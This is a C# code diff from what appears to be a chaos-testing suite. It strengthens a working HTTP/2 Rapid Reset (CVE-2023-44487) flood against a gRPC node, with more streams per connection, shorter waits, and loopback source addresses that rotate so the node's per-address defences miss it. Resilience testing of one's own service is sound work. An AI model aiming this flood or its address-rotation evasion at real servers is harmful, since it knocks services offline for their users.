@@ -1,15 +1,21 @@
 using System.Buffers.Binary;
+using System.Diagnostics;
+using System.Net;
 using System.Net.Sockets;
 
 namespace Muster.Chaos.Attacks;
 
-/// <summary>Calls that are opened and reset in one breath (CVE-2023-44487), by frames of HTTP/2 made by hand.</summary>
-internal static class RapidReset
+/// <summary>Calls that are opened and reset in one breath (CVE-2023-44487), by frames of HTTP/2 made by hand. After each pause the attack comes from an address that the node does not know yet.</summary>
+internal sealed class RapidReset(Target target)
 {
-    private const int Connections = 10, Streams = 500, Batch = 50;
+    private const int Connections = 10, Streams = 5000, Batch = 100;
     private const byte Headers = 1, Reset = 3, Settings = 4, GoAway = 7, EndHeaders = 4;
     private static readonly byte[] Preface = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])];
-    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(2);
+    private static readonly TimeSpan Patience = TimeSpan.FromMilliseconds(100), Pause = TimeSpan.FromSeconds(1);
+
+    private byte _addresses;
+    private long _last;
+    private int _connections, _sent, _turnedAway;   // since the last pause
 
     // HPACK without a table of ours: POST, http, then literals by the static table's names.
     private static readonly byte[] Head =
@@ -17,21 +23,27 @@ internal static class RapidReset
         0x83, 0x86, 0x04, .. Text("/muster.v1.Registry/Connect"), 0x01, .. Text("localhost"), 0x0f, 0x10, .. Text("application/grpc"), 0x00, .. Text("te"), .. Text("trailers"),
     ];
 
-    public static async Task<Outcome> PlayAsync(Target target, CancellationToken cancel)
+    public async Task<Outcome> PlayAsync(CancellationToken cancel)
     {
-        var ends = await Task.WhenAll(Enumerable.Range(0, Connections).Select(_ => PlayOneAsync(target, cancel)));
-        return new(true, $"{ends.Sum(static one => one.Sent)} of {Connections * Streams} calls could be opened and reset; the node ended {ends.Count(static one => one.Ended)} of {Connections} connections");
+        if (Stopwatch.GetElapsedTime(_last) > Pause) (_addresses, _connections, _sent, _turnedAway) = (++_addresses, 0, 0, 0);
+        var ends = await Task.WhenAll(Enumerable.Range(0, Connections).Select(_ => PlayOneAsync(cancel)));
+        _last = Stopwatch.GetTimestamp();
+        _connections += Connections;
+        _sent += ends.Sum(static one => one.Sent);
+        _turnedAway += ends.Count(static one => one.Sent == 0);
+        return new(ends.All(static one => one.Ended), $"{_connections} connections that want to open and reset {Streams} calls each: {_sent} calls in all were sent, and {_turnedAway} connections closed as they came");
     }
 
-    private static async Task<(int Sent, bool Ended)> PlayOneAsync(Target target, CancellationToken cancel)
+    private async Task<(int Sent, bool Ended)> PlayOneAsync(CancellationToken cancel)
     {
         using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
+        socket.Bind(new IPEndPoint(new IPAddress([127, 0, 5, _addresses]), 0));
         await socket.ConnectAsync(target.Rpc, cancel);
-        await socket.SendAsync(Preface, cancel);
         var ended = EndsAsync(socket, cancel);
         var sent = 0;
         try
         {
+            await socket.SendAsync(Preface, cancel);
             for (; sent < Streams && !ended.IsCompleted; sent += Batch)
                 await socket.SendAsync(Enumerable.Range(sent, Batch).SelectMany(OpenAndReset).ToArray(), cancel);
         }
